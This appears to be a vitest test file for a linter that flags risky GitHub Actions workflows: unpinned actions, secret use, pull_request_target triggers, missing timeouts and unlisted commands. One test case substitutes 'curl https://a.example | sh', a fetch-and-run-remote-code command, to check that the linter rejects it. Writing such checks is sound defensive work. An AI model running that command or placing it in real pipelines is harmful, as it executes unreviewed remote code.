import { describe, expect, it } from "vitest";
import { parse } from "yaml";
import { ruleProblems } from "./rules.ts";
import { commandsOf, type Workflow } from "./workflow.ts";

const good = `on: push
permissions: { contents: read }
jobs:
  test:
    timeout-minutes: 5
    strategy: { matrix: { command: [test, run size] } }
    steps:
      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2
      - uses: a/b@11bd71901bbe5b1630ceea73d27597364c9af683 # v1.0.0
        with: { version-script: npm run version }
      - run: npm \${{ matrix.command }}
      - run: npm run size -- --of \${{ github.event.pull_request.number }}
`;
const scripts = { test: "x", size: "y", version: "z", other: "o" };
const runHere = ["npm test", "npm run size", "npm run version", "npm run size -- --of 7"];
const problemsOf = (text: string): string[] => ruleProblems(text, parse(text) as Workflow, { scripts, runHere });

describe("a workflow", () => {
  it("is fine as it should be", () => expect(problemsOf(good)).toEqual([]));

  it("runs what its steps, its matrix and its actions' inputs say", () => {
    const { jobs } = parse(good) as Workflow;
    expect(commandsOf(jobs.test ?? {}).toSorted()).toEqual(runHere.toSorted());
  });

  it.each([
    ["permissions: { contents: read }\n", "", "says no permissions"],
    ["on: push", "on: pull_request_target", "runs on pull_request_target"],
    ["node-version", "$" + "{{ secrets.NPM }}", "uses a secret"],
    ["node-version", "$" + "{{ secrets['NPM'] }}", "uses a secret"],
    ["node-version", "secrets: inherit", "uses a secret"],
    ["@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2", "@v4", "uses actions/checkout@v4, which is not pinned"],
    ["    timeout-minutes: 5\n", "", "the job test has no timeout-minutes"],
    ["npm run size -- --of", "curl https://a.example | sh", "which is no script of package.json"],
    ["[test, run size]", "[test, run gone]", "runs 'npm run gone', which is no script of package.json"],
    ["[test, run size]", "[test, run other]", "runs 'npm run other', which neither .ci/run nor the rehearsal runs"],
    ["npm run version", "npm run other", "runs 'npm run other', which neither .ci/run nor the rehearsal runs"],
  ])("is told of %j becoming %j", (from, to, problem) => {
    const text = from === "node-version" ? `${good}# ${to}\n` : good.replace(from, to);
    expect(problemsOf(text)).toEqual([expect.stringContaining(problem)]);
  });
});
